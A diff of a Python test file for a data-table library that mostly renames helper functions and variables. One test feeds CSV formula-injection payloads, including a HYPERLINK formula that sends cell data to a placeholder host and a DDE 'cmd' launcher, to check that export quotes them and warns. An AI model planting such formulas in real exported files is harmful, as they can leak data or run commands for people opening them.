@@ -96,7 +96,7 @@ def giving(values: dict[str, Any]) -> agf.Registry:
     return registry
 
 
-def given(names: list[str], values: dict[str, Any] = VALUES) -> Any:
+def table_of(names: list[str], values: dict[str, Any] = VALUES) -> Any:
     """The table of a run that gives these values, one in each row."""
     return agf.run("giving", over=[{"which": name} for name in names], registry=giving(values)).table
 
@@ -105,14 +105,16 @@ def is_journaled() -> bool:
     return current.settings.journal is not None
 
 
-def same(one: Any, other: Any) -> bool:
-    if isinstance(one, pd.DataFrame):
-        return isinstance(other, pd.DataFrame) and one.equals(other)
-    if isinstance(one, np.ndarray):
-        return type(other) is np.ndarray and one.dtype == other.dtype and one.tolist() == other.tolist()
-    if isinstance(one, dict):
-        return type(other) is dict and one.keys() == other.keys() and all(same(one[n], other[n]) for n in one)
-    return type(one) is type(other) and bool(one == other or (one != one and other != other))
+def is_same(first: Any, second: Any) -> bool:
+    if isinstance(first, pd.DataFrame):
+        return isinstance(second, pd.DataFrame) and first.equals(second)
+    if isinstance(first, np.ndarray):
+        return type(second) is np.ndarray and first.dtype == second.dtype and first.tolist() == second.tolist()
+    if isinstance(first, dict):
+        return (
+            type(second) is dict and first.keys() == second.keys() and all(is_same(first[n], second[n]) for n in first)
+        )
+    return type(first) is type(second) and bool(first == second or (first != first and second != second))
 
 
 def output_of(row: Any) -> Any:
@@ -125,16 +127,16 @@ ABOUT = ("row", "which", "status", "error", "error_text", "seconds", "tokens", "
 
 @pytest.mark.parametrize("name", VALUES)
 def test_a_row_has_the_value_that_the_flow_returned(name: str) -> None:
-    table = given([name])
+    table = table_of([name])
     tables = [table, find_past_run(table.run.run_id).table] if is_journaled() else [table]
-    for one in tables:
-        assert same(output_of(one[0]), VALUES[name])
-        assert same(next(one.rows()).output, VALUES[name])
-        seen: list[Any] = []
-        agf.score_over(one, lambda output, row, seen=seen: seen.append(output))
-        assert same(seen[0], VALUES[name])
+    for one_table in tables:
+        assert is_same(output_of(one_table[0]), VALUES[name])
+        assert is_same(next(one_table.rows()).output, VALUES[name])
+        outputs: list[Any] = []
+        agf.score_over(one_table, lambda output, row, outputs=outputs: outputs.append(output))
+        assert is_same(outputs[0], VALUES[name])
         assert table._repr_html_()
-        frame = one.to_pandas()
+        frame = one_table.to_pandas()
         cells = {column: frame[column].iloc[0] for column in output_cells(name)}
         assert all(alike(cells[column], value) for column, value in output_cells(name).items())
 
@@ -150,7 +152,7 @@ def alike(cell: Any, value: Any) -> bool:
     if value is None or name_is_nat(value):
         return cell is None or cell != cell
     if isinstance(value, np.ndarray | pd.DataFrame):
-        return same(cell, value)
+        return is_same(cell, value)
     return bool(cell == value or cell != cell)
 
 
@@ -227,22 +229,22 @@ READ: dict[str, Callable[[Path], Any]] = {"csv": read_csv, "jsonl": read_jsonl, 
 @pytest.mark.parametrize("suffix", READ)
 @pytest.mark.parametrize("name", FORMS)
 def test_a_file_has_the_value_or_is_not_written(folder: Path, name: str, suffix: str) -> None:
-    table, path = given([name]), folder / f"rows.{suffix}"
-    wanted = FORMS[name][suffix]
-    if wanted is REFUSED:
+    table, path = table_of([name]), folder / f"rows.{suffix}"
+    expected = FORMS[name][suffix]
+    if expected is REFUSED:
         with pytest.raises(agf.DefinitionError) as error:
             table.save(path)
         assert error.value.code == "over.cannot-hold"
         assert "row 0 'output'" in error.value.diagnostic.message
         assert not path.exists()
     else:
-        found = READ[suffix](table.save(path))
-        assert found == wanted or (found != found and wanted != wanted)
+        value_read = READ[suffix](table.save(path))
+        assert value_read == expected or (value_read != value_read and expected != expected)
 
 
 @pytest.mark.parametrize("suffix", READ)
 def test_a_file_that_is_refused_names_all_places(folder: Path, suffix: str) -> None:
-    table = given(["text", "set", "fails", "frame"])
+    table = table_of(["text", "set", "fails", "frame"])
     with pytest.raises(agf.DefinitionError) as error:
         table.save(folder / f"rows.{suffix}")
     assert error.value.diagnostic.message.endswith(
@@ -252,22 +254,22 @@ def test_a_file_that_is_refused_names_all_places(folder: Path, suffix: str) -> N
 
 def test_a_value_that_the_journal_does_not_hold_is_an_error_where_it_is_read(folder: Path) -> None:
     values = {"small": "a", "large": "x" * 11_000_000, "locked": Locked()}
-    table = given(list(values), values)
+    table = table_of(list(values), values)
     if not is_journaled():
         assert [row["output"] for row in table] == list(values.values())
         return
-    for one in (table, find_past_run(table.run.run_id).table):
-        assert one[0]["output"] == "a"
-        assert [row["status"] for row in one] == ["ok"] * 3
-        assert "xxx" in repr(one)  # a display shows a preview
-        assert one[1]["output"] == values["large"]
+    for one_table in (table, find_past_run(table.run.run_id).table):
+        assert one_table[0]["output"] == "a"
+        assert [row["status"] for row in one_table] == ["ok"] * 3
+        assert "xxx" in repr(one_table)  # a display shows a preview
+        assert one_table[1]["output"] == values["large"]
         reads: list[Callable[[], Any]] = [
-            lambda one=one: one[2]["output"],  # type: ignore[misc]
-            lambda one=one: dict(one[2]),  # type: ignore[misc]
-            lambda one=one: one.to_pandas(),  # type: ignore[misc]
-            lambda one=one: one.to_polars(),  # type: ignore[misc]
-            lambda one=one: one.to_arrow(),  # type: ignore[misc]
-            *(lambda one=one, end=end: one.save(folder / f"rows.{end}") for end in READ),
+            lambda one_table=one_table: one_table[2]["output"],  # type: ignore[misc]
+            lambda one_table=one_table: dict(one_table[2]),  # type: ignore[misc]
+            lambda one_table=one_table: one_table.to_pandas(),  # type: ignore[misc]
+            lambda one_table=one_table: one_table.to_polars(),  # type: ignore[misc]
+            lambda one_table=one_table: one_table.to_arrow(),  # type: ignore[misc]
+            *(lambda one_table=one_table, end=end: one_table.save(folder / f"rows.{end}") for end in READ),
         ]
         for read in reads:
             with pytest.raises(agf.DefinitionError) as error:
@@ -275,7 +277,7 @@ def test_a_value_that_the_journal_does_not_hold_is_an_error_where_it_is_read(fol
             assert error.value.code == "over.not-stored"
         assert "row 2 'output'" in error.value.diagnostic.message
         assert "row 1" not in error.value.diagnostic.message
-        scores = agf.score_over(one, len)
+        scores = agf.score_over(one_table, len)
         assert [scores["len"].rows, scores["len"].missing] == [2, 1]
 
 
@@ -328,7 +330,7 @@ def test_a_column_of_pandas_has_a_type_that_has_its_values(name: str) -> None:
     values, dtype = COLUMNS[name]
     names = [str(number) for number, value in enumerate(values) if value is not None]
     named = {str(number): value for number, value in enumerate(values)}
-    frame = given(names if None not in values else [*names, "fails"], named).to_pandas()
+    frame = table_of(names if None not in values else [*names, "fails"], named).to_pandas()
     assert str(frame["output"].dtype) == dtype
     assert frame["output"].iloc[0] == values[0]
     if None in values:
@@ -338,7 +340,7 @@ def test_a_column_of_pandas_has_a_type_that_has_its_values(name: str) -> None:
 def test_texts_that_a_spreadsheet_would_run_are_quoted_and_told(folder: Path) -> None:
     texts = {"a": '=HYPERLINK("http://x/?"&A1)', "b": "@SUM(1)", "c": "-1+cmd|' /C calc'!A0", "d": "\t=1", "e": "+1"}
     plain = {"f": "-5", "g": "a=b", "h": "-1.5e3"}
-    table = given([*texts, *plain], texts | plain)
+    table = table_of([*texts, *plain], texts | plain)
     with pytest.warns(UserWarning, match="row 0 'output', row 1 'output', row 2 'output', row 3 'output' as a formula"):
         path = table.save(folder / "rows.csv")
     with path.open(newline="") as file:
@@ -375,7 +377,7 @@ COMPARED: dict[str, tuple[Any, Any]] = {
 @pytest.mark.parametrize("name", COMPARED)
 def test_rows_are_compared_by_their_values(name: str) -> None:
     first, other = COMPARED[name]
-    one, two, three = (given(["v", "w"], {"v": value, "w": 1}) for value in (first, first, other))
+    one, two, three = (table_of(["v", "w"], {"v": value, "w": 1}) for value in (first, first, other))
     assert [row.key for row in agf.compare_over(one, three).changed] == [0]  # type: ignore[union-attr]
     assert agf.compare_over(one, two).changed == []  # type: ignore[union-attr]
     assert agf.compare_over(one, two).not_compared == []  # type: ignore[union-attr]
@@ -384,7 +386,7 @@ def test_rows_are_compared_by_their_values(name: str) -> None:
 def test_rows_of_which_too_little_is_stored_are_not_compared(request: pytest.FixtureRequest) -> None:
     if "no journal" in request.node.name:
         pytest.skip("what two runs ran with is compared by their manifests")
-    one, two = (given(["v", "w"], {"v": Locked(), "w": 1}) for _ in range(2))
+    one, two = (table_of(["v", "w"], {"v": Locked(), "w": 1}) for _ in range(2))
     compared = agf.compare_over(one, two)
     assert compared.changed == []  # type: ignore[union-attr]
     assert [row.key for row in compared.not_compared] == [0]  # type: ignore[union-attr]
